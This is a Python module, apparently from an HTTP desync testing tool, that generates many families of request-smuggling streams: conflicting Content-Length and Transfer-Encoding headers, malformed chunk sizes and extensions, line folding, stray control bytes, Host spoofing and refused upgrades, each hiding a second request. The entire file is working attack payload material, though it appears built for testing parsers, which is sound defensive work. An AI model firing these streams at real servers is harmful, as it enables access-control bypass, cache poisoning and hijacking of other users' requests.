# SPDX-License-Identifier: Apache-2.0
"""Streams that make two readers disagree about where a request ends, by families of the trick.

A family yields streams of bytes. What of a stream a server may see is not said here: `entitled.py`
reads it. A family that has more streams than a run can send is drawn from, by seed.
"""

import itertools
import random
from typing import Callable, Iterator

Family = Callable[[], Iterator[bytes]]
FAMILIES: dict[str, Family] = {}

CHUNKED = b"Transfer-Encoding: chunked"
LAST_CHUNK = b"0\r\n\r\n"
WHOLE = b"GET /hidden HTTP/1.1\r\nHost: shop.example\r\n\r\n"
OPEN = b"GET /hidden HTTP/1.1\r\nHost: shop.example\r\nX-Swallow: "  # takes the next request's line
HIDDEN = [WHOLE, OPEN,
          b"POST /hidden HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 500\r\n\r\n",
          b"GET /hidden HTTP/1.0\r\n\r\n"]
METHODS = [b"POST", b"GET", b"HEAD", b"OPTIONS", b"DELETE", b"BREW"]

# What a careless reader of a line skips, strips, or takes for its end.
SPECKS = [b"\x00", b"\x01", b"\x08", b"\t", b"\n", b"\x0b", b"\x0c", b"\r", b"\x1c", b"\x1f", b" ",
          b"\x7f", b"\x80", b"\x85", b"\xa0", b"\xff", b"\xe2\x80\x8b", b"\xef\xbb\xbf", b"\r\n",
          b"\r\n ", b"\r\n\t", b"\n ", b"\r\r\n", b"\n\n"]


def family(made: Family) -> Family:
    FAMILIES[made.__name__] = made
    return made


def drawn(name: str, count: int, seed: int) -> list[bytes]:
    """`count` streams of a family, or all of them; the same ones for the same seed."""
    streams = list(dict.fromkeys(FAMILIES[name]()))
    return streams if len(streams) <= count else random.Random(seed).sample(streams, count)


def head(*lines: bytes, method: bytes = b"POST", target: bytes = b"/seen",
         version: bytes = b"HTTP/1.1", host: bytes = b"Host: shop.example") -> bytes:
    start = method + b" " + target + b" " + version
    return b"\r\n".join([start, host, *lines]) + b"\r\n\r\n"


def length(value: int) -> bytes:
    return b"Content-Length: %d" % value


def in_chunk(data: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(data), data)


def decorated(name: bytes, value: bytes) -> Iterator[bytes]:
    """One field line with a speck at each place where one may be overlooked."""
    middle = len(name) // 2
    for speck in SPECKS:
        yield speck + name + b": " + value
        yield name + speck + b": " + value
        yield name[:middle] + speck + name[middle:] + b": " + value
        yield name + b":" + speck + value
        yield name + b": " + value + speck
        yield b"X: y" + speck + name + b": " + value
        yield b"X:" + speck + b"\r\n" + name + b": " + value
    for spelled in (name.upper(), name.lower(), name.replace(b"-", b"_"), name + b"_", b"_" + name,
                    name.replace(b"-", b"--"), name.replace(b"-", b"\xe2\x80\x90"),
                    name.replace(b"s", b"\xc5\xbf"), name.replace(b"e", b"%65", 1), name + b"s",
                    b'"' + name + b'"', b":" + name, name + b":"):
        yield spelled + b": " + value
    yield name + b" " + value
    yield name + b"=" + value
    yield name + b"\r\n: " + value


TE_VALUES = [b"chunked", b"Chunked", b"x, chunked", b"chunked, identity", b"identity", b"identity, "
             b"chunked", b"cow, chunked", b"'chunked'", b'"chunked"', b"chunked;q=0", b"chunked,",
             b", chunked", b"chunke", b"chunkedd", b"chu\xc5\x86ked", b"chunk", b"chunked, chunked",
             b"", b"gzip", b"deflate, chunked", b"chunked\r\nTransfer-Encoding: identity",
             b"\\chunked",
             b"(chunked)", b"chunked // x", b"http chunked", b"%63hunked", b"TE: chunked"]


# ---- two lengths, or one that only some can read -------------------------------------------------

@family
def cl_te() -> Iterator[bytes]:
    """The first reader goes by the length, the next by the chunks."""
    for hidden, coding in itertools.product(
            HIDDEN, [CHUNKED, *(b"Transfer-Encoding: " + each for each in TE_VALUES),
                     *decorated(b"Transfer-Encoding", b"chunked")]):
        body = LAST_CHUNK + hidden
        yield head(length(len(body)), coding) + body
        yield head(coding, length(len(body))) + body


@family
def te_cl() -> Iterator[bytes]:
    """The first reader goes by the chunks, the next by the length."""
    for hidden, line in itertools.product(
            HIDDEN, [length(4), *decorated(b"Content-Length", b"4"), length(0)]):
        body = in_chunk(hidden) + LAST_CHUNK
        yield head(CHUNKED, line) + body
        yield head(line, CHUNKED) + body


@family
def te_te() -> Iterator[bytes]:
    """Two codings, of which each reader sees another one."""
    second = [*(b"Transfer-Encoding: " + each for each in TE_VALUES),
              *decorated(b"Transfer-Encoding", b"identity")]
    for hidden, coding in itertools.product(HIDDEN[:2], second):
        yield head(CHUNKED, coding, length(4)) + in_chunk(hidden) + LAST_CHUNK
        yield head(coding, CHUNKED) + LAST_CHUNK + hidden
        yield head(CHUNKED, b"X: y", coding) + LAST_CHUNK + hidden


@family
def cl_cl() -> Iterator[bytes]:
    """Two lengths, or one that is no plain number."""
    for hidden in HIDDEN[:2]:
        size = len(hidden)
        spelled = [b"+%d", b"-%d", b"0x%x", b"%d.0", b"%de0", b"%d,0", b"0,%d", b"%d, %d", b"%d %d",
                   b"0%d", b"\xef\xbc\x90%d", b"%d;", b'"%d"', b"1_%d", b"%d\x00", b" %d ", b"\t%d",
                   b"00000000000000000000%d", b"18446744073709551616%d"]
        for form in spelled:
            value = form % ((size,) * form.count(b"%d") or size)
            yield head(b"Content-Length: " + value) + hidden
            yield head(length(0), b"Content-Length: " + value) + hidden
            yield head(b"Content-Length: " + value, length(0)) + hidden
        yield head(b"Content-Length: %d" % (2**64 + size)) + hidden
        yield head(b"Content-Length: %d" % (2**32 + size)) + hidden
        for line in decorated(b"Content-Length", b"%d" % size):
            yield head(length(0), line) + hidden
            yield head(line, length(0)) + hidden


@family
def cl_0() -> Iterator[bytes]:
    """The next reader overlooks a body: for its method, its target, or its length's spelling."""
    targets = [b"/seen", b"/seen/", b"/seen?x=/", b"//seen", b"/seen/..%2f", b"/%2e%2e/seen", b"/"]
    for method, target, hidden in itertools.product(METHODS, targets, HIDDEN):
        yield head(length(len(hidden)), method=method, target=target) + hidden
    for line in decorated(b"Content-Length", b"%d" % len(WHOLE)):
        yield head(line) + WHOLE


@family
def te_0() -> Iterator[bytes]:
    """As CL.0, with chunks, whose first size line would be the next request's."""
    for method, hidden in itertools.product(METHODS, HIDDEN):
        yield head(CHUNKED, method=method) + in_chunk(hidden) + LAST_CHUNK
        yield head(CHUNKED, method=method) + LAST_CHUNK + hidden
    for line in decorated(b"Transfer-Encoding", b"chunked"):
        yield head(line) + in_chunk(WHOLE) + LAST_CHUNK


@family
def zero_cl() -> Iterator[bytes]:
    """The first reader overlooks a body that the next one waits for: the victim's request."""
    for line in (*decorated(b"Content-Length", b"200"), *decorated(b"Transfer-Encoding",
                                                                   b"chunked")):
        yield head(line, method=b"GET")
        yield head(line, method=b"GET") + WHOLE


# ---- chunks --------------------------------------------------------------------------------------

LINE_ENDS = [b"\r\n", b"\n", b"\r", b"\r\r\n", b"\n\r", b"\rX", b"\r\n\r\n", b"\n\n", b" \r\n",
             b"\x00\r\n",
             b"\x0b\r\n", b"\x85", b"\xe2\x80\xa8"]


@family
def chunk_sizes() -> Iterator[bytes]:
    """A size that is read as another one."""
    size = len(WHOLE)
    forms = [b"%x", b"%X", b"0%x", b"0x%x", b"+%x", b"-%x", b" %x", b"\t%x", b"%x ", b"%x\t",
             b"%xg", b"%x_",
             b"0_%x", b"_%x", b"%x.0", b'"%x"', b"\x00%x", b"%x\x00", b"%x,0", b"%xh",
             b"\xef\xbc\x91%x",
             b"00000000000000%x", b"0000000000000000%x", b"10000000000000000%x", b"ffffffff%x",
             b"100000000%x",
             b"8000000000000000", b"-0x0", b"0_%x", b"0x0", b"00", b"-0", b"0g", b"", b";"]
    for form, tail in itertools.product(forms, [b"\r\n" + WHOLE,
                                                b"\r\n" + WHOLE + b"\r\n" + LAST_CHUNK]):
        line = form % size if b"%" in form else form
        yield head(CHUNKED) + line + tail
        yield head(CHUNKED) + in_chunk(b"x") + line + tail


@family
def chunk_extensions() -> Iterator[bytes]:
    """TERM.EXT and EXT.TERM: a size line ends for one reader, and goes on for the other."""
    extensions = [b"", b";", b";a", b";a=b", b';a="b', b';a="b"', b"; a", b" ;a", b";a=", b";a;;b",
                  b';a="\\',
                  b";\x00", b";a\xff", b";a=b c", b";" + b"a" * 40]
    for extension, end, hidden in itertools.product(extensions, LINE_ENDS, HIDDEN[:2]):
        for size in (2, len(hidden)):
            line = b"%x" % size + extension + end
            yield head(CHUNKED) + line + b"xx\r\n" + LAST_CHUNK + hidden
            yield head(CHUNKED) + line + hidden + b"\r\n" + LAST_CHUNK
        yield head(CHUNKED) + b"5" + extension + end + b"AAAA\r\n" + in_chunk(hidden) + LAST_CHUNK


@family
def chunk_spill() -> Iterator[bytes]:
    """Data that is longer than its size, or not followed by CRLF."""
    spills = [b"", b"\n", b"\r", b"X\r\n", b"XX", b"\r\r\n", b"\n\r\n", b" \r\n", b"\x00\r\n",
              b"0\r\n", b"\r\n\r\n", b";a\r\n"]
    for spill, hidden in itertools.product(spills, HIDDEN):
        yield head(CHUNKED) + b"2\r\nxx" + spill + LAST_CHUNK + hidden
        yield head(CHUNKED) + b"2\r\nxx" + spill + in_chunk(hidden) + LAST_CHUNK
        yield head(CHUNKED) + b"0" + spill + LAST_CHUNK + hidden


@family
def chunk_trailers() -> Iterator[bytes]:
    """Behind the last chunk: fields that frame, and ends of the body that only some see."""
    lines = [*decorated(b"Content-Length", b"50"), *decorated(b"Transfer-Encoding", b"chunked"),
             b"Host: evil.example", b"Content-Length: 50\r\nX: y", b"Connection: close", b"X",
             b": y", b" X: y"]
    for line, end in itertools.product(lines, [b"\r\n\r\n", b"\n\r\n", b"\r\n\n", b"\n\n",
                                               b"\r\n\r"]):
        yield head(CHUNKED) + in_chunk(b"x") + b"0\r\n" + line + end + WHOLE


# ---- heads ---------------------------------------------------------------------------------------

@family
def line_ends() -> Iterator[bytes]:
    """Bare LF, bare CR and what resembles them, at every line of a head."""
    body = LAST_CHUNK + WHOLE
    lines = [b"POST /seen HTTP/1.1", b"Host: shop.example", b"X: y", length(len(body)), b"A: b",
             b""]
    for at, end in itertools.product(range(len(lines)), LINE_ENDS):
        yield b"".join(line + (end if i == at else b"\r\n") for i, line in enumerate(lines)) + body
    for end in LINE_ENDS:
        yield head(b"X: y" + end + CHUNKED, length(len(body))) + body
        yield head(b"X: y" + end + b"Host: evil.example") + WHOLE
        yield head(b"X: y" + end + end + WHOLE.rstrip(b"\r\n"))
        yield end.join(lines) + end + body


@family
def folds() -> Iterator[bytes]:
    """A value that goes on in the next line, for those who know obs-fold."""
    for fold in (b"\r\n ", b"\r\n\t", b"\r\n  \t", b"\n ", b"\r ", b"\r\n \r\n ", b"\r\n\x0b",
                 b"\r\n\x00"):
        body = LAST_CHUNK + WHOLE
        yield head(b"Transfer-Encoding:" + fold + b"chunked", length(len(body))) + body
        yield head(b"Transfer-Encoding:" + fold + b"chunked") + body
        yield head(b"Transfer-Encoding: chunked" + fold + b"identity") + body
        yield head(b"X: y" + fold + CHUNKED, length(len(body))) + body
        yield head(b"Content-Length:" + fold + b"%d" % len(body)) + body
        yield head(b"Content-Length: 1" + fold + b"0") + body
        yield head(host=b"Host: shop.example" + fold + b"evil.example")
        yield head(host=fold[2:] + b"Host: shop.example")
        yield head(host=b"Host:" + fold + b"shop.example")


@family
def hosts() -> Iterator[bytes]:
    """Two of them, and targets that name another one."""
    for line in (*decorated(b"Host", b"evil.example"), b"Host: evil.example", b"Host: shop.example",
                 b"Host:", b"X-Host: evil.example", b"Forwarded: host=evil.example"):
        yield head(line, method=b"GET") + WHOLE
        yield head(host=line, method=b"GET") + WHOLE
        yield head(b"Host: shop.example", host=line, method=b"GET") + WHOLE
    targets = [b"http://shop.example/seen", b"http://evil.example/seen",
               b"http://shop.example@evil.example/",
               b"http://evil.example@shop.example/", b"HTTP://SHOP.EXAMPLE/seen",
               b"http:/shop.example/",
               b"http:///seen", b"https://shop.example/seen", b"ftp://shop.example/",
               b"//evil.example/seen",
               b"http://shop.example?seen", b"http://shop.example#@evil.example/",
               b"shop.example:80", b"*",
               b"http://shop.example\\@evil.example/", b"http://shop.example:80/",
               b"@evil.example/", b"?x",
               b"/seen@evil.example", b"http://shop.example%00.evil.example/", b"seen",
               b"http:seen"]
    for target, method in itertools.product(targets, [b"GET", b"OPTIONS"]):
        yield head(target=target, method=method) + WHOLE
    for value in (b"shop.example, evil.example", b"shop.example evil.example", b"shop.example/",
                  b"shop.example:80:81",
                  b"shop.example:99999", b"shop.example:-1", b"a@shop.example", b"[::1",
                  b"shop.example?x", b"shop\\example"):
        yield head(host=b"Host: " + value, method=b"GET") + WHOLE


@family
def request_lines() -> Iterator[bytes]:
    """A line within the line: what some split at other blanks, or take for HTTP/0.9."""
    for speck in SPECKS:
        yield head(method=b"GET" + speck, target=b"/seen") + WHOLE
        yield head(method=b"GET", target=b"/seen" + speck) + WHOLE
        yield head(method=b"GET", target=speck + b"/seen") + WHOLE
        yield head(method=b"GET", target=b"/seen HTTP/1.1" + speck + b"X:",
                   version=b"HTTP/1.1") + WHOLE
        yield speck + head(method=b"GET") + WHOLE
        yield head(method=b"GET", version=b"HTTP/1.1" + speck) + WHOLE
    for version in (b"HTTP/1.0", b"HTTP/0.9", b"HTTP/1.2", b"HTTP/2.0", b"HTTP/1.10", b"HTTP/01.1",
                    b"http/1.1", b"HTTP/1,1", b""):
        yield head(method=b"GET", version=version) + WHOLE
        yield head(b"Connection: keep-alive", method=b"GET", version=version) + WHOLE
        yield head(CHUNKED, version=version) + in_chunk(WHOLE) + LAST_CHUNK
        yield head(b"Connection: keep-alive", CHUNKED,
                   version=version) + in_chunk(WHOLE) + LAST_CHUNK
        yield head(b"Connection: keep-alive", length(len(WHOLE)), version=version) + WHOLE
    for line in (b"GET /seen\r\n", b"GET\r\n", b"GET /seen \r\n", b"\r\n" * 3, b"\n",
                 b"HTTP/1.1 200 OK\r\n\r\n"):
        yield line + WHOLE


@family
def encoded() -> Iterator[bytes]:
    """Percent-encoded line ends and blanks: they stay encoded, so that they stay harmless."""
    breaks = [b"%0d%0a", b"%0D%0A", b"%0a", b"%0d", b"%00", b"%20", b"%250d%250a", b"%c4%8d%c4%8a",
              b"\\r\\n", b"%u000d%u000a"]
    for each in breaks:
        injected = each + b"Content-Length:%2050" + each + each + b"GET%20/hidden%20HTTP/1.1"
        yield head(method=b"GET", target=b"/seen" + injected)
        yield head(method=b"GET", target=b"/seen?x=" + injected)
        yield head(method=b"GET", target=b"http://shop.example/seen" + injected)
        yield head(method=b"GET", target=b"http://shop.example" + each + b"/")
        yield head(b"Referer: http://shop.example/" + injected, method=b"GET")
        yield head(b"Cookie: a=" + injected, method=b"GET")
        yield head(host=b"Host: shop.example" + each, method=b"GET")
        yield head(method=b"GET" + each)


# ---- options, expectations, upgrades -------------------------------------------------------------

@family
def expectations() -> Iterator[bytes]:
    """Who waits for a 100 that never comes, or does not wait for one that was asked for."""
    for expect, hidden in itertools.product(
            [b"100-continue", b"100-Continue", b"y 100-continue", b"100-continue, x", b"200-maybe",
             b"", b"100-continue;x",
             b"100-continue\r\nExpect: 100-continue"], HIDDEN[:3]):
        line = b"Expect: " + expect
        for method in (b"POST", b"GET"):
            yield head(line, length(len(hidden)), method=method) + hidden
            yield head(line, CHUNKED, method=method) + in_chunk(hidden) + LAST_CHUNK
            yield head(line, method=method) + hidden
        yield head(line, length(len(hidden)), version=b"HTTP/1.0") + hidden
    for line in decorated(b"Expect", b"100-continue"):
        yield head(line, length(len(WHOLE))) + WHOLE


WEBSOCKET = (b"Upgrade: websocket", b"Connection: Upgrade",
             b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"
SETTINGS = b"HTTP2-Settings: AAMAAABkAAQAAP__"


@family
def upgrades() -> Iterator[bytes]:
    """Who believes in a tunnel that was refused: WebSocket, h2c, TLS."""
    for version, hidden in itertools.product([b"13", b"12", b"1337", b"", b"13, 8"], HIDDEN):
        offer = (*WEBSOCKET, b"Sec-WebSocket-Version: " + version)
        yield head(*offer, method=b"GET") + hidden
        yield head(*offer, length(len(hidden)), method=b"GET") + hidden
        yield head(*offer, CHUNKED, method=b"GET") + in_chunk(hidden) + LAST_CHUNK
        yield head(*offer, length(len(hidden))) + hidden
    for token, behind in itertools.product([b"h2c", b"h2", b"h2c, websocket", b"websocket, h2c",
                                            b"TLS/1.0", b"HTTP/2.0", b"h2C"],
                                           [PREFACE, WHOLE, WHOLE + PREFACE, PREFACE + WHOLE]):
        for options in (b"Upgrade, HTTP2-Settings", b"Upgrade", b"HTTP2-Settings",
                        b"close, Upgrade"):
            offer = (b"Upgrade: " + token, b"Connection: " + options, SETTINGS)
            yield head(*offer, method=b"GET") + behind
            yield head(*offer, length(len(WHOLE))) + WHOLE + behind


@family
def connection_options() -> Iterator[bytes]:
    """Framing, Host or our own fields named away, so that the next reader does not have them."""
    for named, hidden in itertools.product(
            [b"Transfer-Encoding", b"Content-Length", b"Host", b"close, Content-Length",
             b"keep-alive, Transfer-Encoding",
             b"Cookie", b"X-Forwarded-For", b"Upgrade", b"TE", b"Content-Length, Host", b"Expect"],
             HIDDEN):
        yield head(b"Connection: " + named, length(len(hidden))) + hidden
        yield head(length(len(hidden)), b"Connection: " + named) + hidden
        yield head(b"Connection: " + named, CHUNKED) + in_chunk(hidden) + LAST_CHUNK
        yield head(b"Proxy-Connection: " + named, length(len(hidden))) + hidden


# ---- streams -------------------------------------------------------------------------------------

@family
def connection_state() -> Iterator[bytes]:
    """What was checked of a connection's first request is checked of every later one."""
    chance = random.Random(2022)
    others = [each for each in FAMILIES if each != "connection_state"]
    good = [head(method=b"GET"), head(length(5)) + b"hello",
            head(CHUNKED) + in_chunk(b"hello") + LAST_CHUNK]
    for name in others:
        streams = drawn(name, 6, 2022)
        for stream in streams:
            first = b"".join(chance.choice(good) for _ in range(chance.randrange(1, 4)))
            yield first + stream + chance.choice(good)


@family
def buffer_edges() -> Iterator[bytes]:
    """Framing that comes just before, across and behind what buffers hold."""
    for edge, shift in itertools.product([4096, 8192, 16384, 32768], [-40, -20, -3, -2, -1, 0, 1, 2,
                                                                      20]):
        bare = len(head(b"X: ", length(len(WHOLE))))
        padding = b"X: " + b"x" * (edge + shift - bare)
        if edge + shift <= 32768 - len(CHUNKED):
            yield head(padding, length(len(WHOLE))) + WHOLE
            yield head(padding, CHUNKED) + in_chunk(WHOLE) + LAST_CHUNK + WHOLE
        body = b"x" * (edge + shift)
        yield head(length(len(body))) + body + WHOLE
        yield head(CHUNKED) + in_chunk(body) + in_chunk(WHOLE) + LAST_CHUNK + WHOLE
